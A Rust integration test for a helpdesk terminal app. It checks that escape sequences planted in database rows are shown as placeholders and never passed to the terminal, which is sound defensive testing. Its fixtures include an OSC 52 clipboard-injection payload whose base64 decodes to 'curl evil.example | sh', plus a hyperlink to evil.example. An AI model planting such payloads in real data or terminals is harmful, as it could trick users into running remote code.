//! A customer's name is attacker-controlled: another system (Digital Banking's
//! registration) writes the same rows. Escape sequences planted through SQL in a user row,
//! a device label and an audit event are drawn as visible placeholders, never written to
//! the agent's terminal: the real binary in a pseudo-terminal, every byte it writes kept.

use crate::pty;

use std::io::Write;
use std::path::Path;
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use portable_pty::{CommandBuilder, PtySize, native_pty_system};

/// What the program wrote, raw, and as a screen.
struct Terminal {
    bytes: Arc<Mutex<Vec<u8>>>,
    screen: Arc<Mutex<vt100::Parser>>,
    writer: Box<dyn Write + Send>,
}

impl pty::Keys for Terminal {
    fn send_keys(&mut self, keys: &str) {
        self.send(keys);
    }
    fn shown(&self) -> String {
        self.text()
    }
}

impl Terminal {
    fn spawn(dir: &Path, url: &str) -> (Self, Box<dyn portable_pty::Child + Send + Sync>) {
        let pty =
            native_pty_system().openpty(PtySize { rows: 30, cols: 120, pixel_width: 0, pixel_height: 0 }).unwrap();
        let mut cmd = CommandBuilder::new(env!("CARGO_BIN_EXE_helpdesk"));
        cmd.args(["--config", "/dev/null"]);
        cmd.cwd(dir);
        cmd.env("TERM", "xterm-256color");
        cmd.env("LANG", "C.UTF-8");
        cmd.env_remove("LC_ALL");
        cmd.env_remove("LC_CTYPE");
        cmd.env("HELPDESK_DATABASE_URL", url);
        let child = pty.slave.spawn_command(cmd).unwrap();
        drop(pty.slave);
        let (screen, bytes) = pty::screen_and_bytes(&*pty.master, 30, 120);
        let writer = pty.master.take_writer().unwrap();
        std::mem::forget(pty.master);
        (Self { bytes, screen, writer }, child)
    }

    fn text(&self) -> String {
        self.screen.lock().unwrap().screen().contents()
    }

    fn wait_for(&self, needle: &str) -> String {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let text = self.text();
            if text.contains(needle) {
                return text;
            }
            assert!(Instant::now() < deadline, "timed out waiting for {needle:?}; the screen shows:\n{text}");
            std::thread::sleep(Duration::from_millis(40));
        }
    }

    fn send(&mut self, keys: &str) {
        self.writer.write_all(keys.as_bytes()).unwrap();
        self.writer.flush().unwrap();
        std::thread::sleep(Duration::from_millis(150));
    }
}

/// The planted sequences: text made invisible (SGR 8), a clipboard write (OSC 52), a
/// hyperlink (OSC 8), a title change (OSC 0), a right-to-left override, and a bell.
const HIDE: &str = "\x1b[8m";
const CLIPBOARD: &str = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
const LINK: &str = "\x1b]8;;https://evil.example/\x1b\\";
const TITLE: &str = "\x1b]0;pwned\x07";

fn sql_text(s: &str) -> String {
    // SQLite string literal: quotes doubled; control characters pass as they are.
    format!("'{}'", s.replace('\'', "''"))
}

#[tokio::test]
async fn escapes_planted_through_sql_are_shown_never_obeyed() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("hostile-demo.db");
    let url = format!("sqlite://{}", file.display());
    let seeded = Command::new(env!("CARGO_BIN_EXE_helpdesk"))
        .args(["--config", "/dev/null", "demo", "--no-ui", "--users", "40", "--database", &url])
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert!(seeded.status.success(), "{}", String::from_utf8_lossy(&seeded.stderr));

    // Another writer, straight into the database.
    {
        use sqlx::Connection;
        let mut db = sqlx::SqliteConnection::connect(&url).await.unwrap();
        let statements = [
            format!(
                "UPDATE users SET first_name = {}, last_name = {}, email = {} WHERE username = 'amara.okafor'",
                sql_text(&format!("Mallory{HIDE}")),
                sql_text(&format!("Zed\u{202e}{CLIPBOARD}")),
                sql_text(&format!("amara{LINK}@mail.example")),
            ),
            format!(
                "INSERT INTO two_factor_devices (user_id, method, label, added_at) \
                 SELECT id, 'sms', {}, 0 FROM users WHERE username = 'amara.okafor'",
                sql_text(&format!("SMS {TITLE}phone")),
            ),
            format!(
                "INSERT INTO audit_events (at, actor, target, action, note, detail) VALUES \
                 (strftime('%s','now'), {}, 'amara.okafor', 'profile_updated', {}, {})",
                sql_text(&format!("dbank{TITLE}")),
                sql_text(&format!("note{CLIPBOARD}\u{2028}two")),
                sql_text(&format!("detail{HIDE}{LINK}")),
            ),
        ];
        for s in statements {
            sqlx::query(&s).execute(&mut db).await.unwrap();
        }
    }

    let (mut term, mut child) = Terminal::spawn(dir.path(), &url);
    term.wait_for("Sign in with your staff username");
    term.send("ada.admin");
    term.send("\t");
    term.send("admin-demo-pass-2026");
    term.send("\r");
    pty::answer_code(&mut term, "ada.admin");
    term.wait_for("Page 1");
    // The list: found by its folded name, which the product refolded before searching.
    term.send("/");
    term.send("mallory");
    let list = term.wait_for("1 shown");
    assert!(list.contains("Mallory␛[8m"), "the list shows the planted ESC as ␛:\n{list}");
    term.send("\r");
    term.send("\r");
    let detail = term.wait_for("Two-Factor Authentication");
    assert!(detail.contains("␛]52;c;"), "the detail shows the clipboard write as text:\n{detail}");
    // The warning, then back.
    term.send("g");
    term.wait_for("very high-risk");
    term.send("\x1b");
    std::thread::sleep(Duration::from_millis(300));
    term.send("\x1b");
    term.wait_for("Page 1");
    // The audit log, and the planted event opened whole.
    term.send("a");
    let audit = term.wait_for("dbank");
    assert!(audit.contains("dbank␛]0;pwned␇"), "{audit}");
    // The newest event is the email change the product found (written through SQL), then
    // this sign-in; the planted one is below them.
    term.send("j");
    term.send("j");
    term.send("\r");
    let event = term.wait_for("Audit event");
    assert!(event.contains("note␛]52;c;"), "the event's note shows the planted OSC as text:\n{event}");
    term.send("\x1b");
    term.send("\x1b");
    term.send("q");
    let deadline = Instant::now() + Duration::from_secs(10);
    while child.try_wait().unwrap().is_none() {
        assert!(Instant::now() < deadline, "the program did not quit");
        std::thread::sleep(Duration::from_millis(50));
    }

    let written = term.bytes.lock().unwrap().clone();
    let find = |needle: &[u8]| written.windows(needle.len()).any(|w| w == needle);
    for (what, planted) in [
        ("SGR 8 (hidden text)", HIDE.as_bytes()),
        ("OSC 52 (clipboard)", b"\x1b]52" as &[u8]),
        ("OSC 8 (hyperlink)", b"\x1b]8;"),
        ("OSC 0 (title)", b"\x1b]0;"),
        ("a bell", b"\x07"),
        ("U+202E (right-to-left override)", "\u{202e}".as_bytes()),
        ("U+2028 (line separator)", "\u{2028}".as_bytes()),
    ] {
        assert!(!find(planted), "{what} planted through SQL reached the terminal");
    }
    // No OSC of any kind: the program itself writes none.
    assert!(!find(b"\x1b]"), "an operating system command reached the terminal");
}
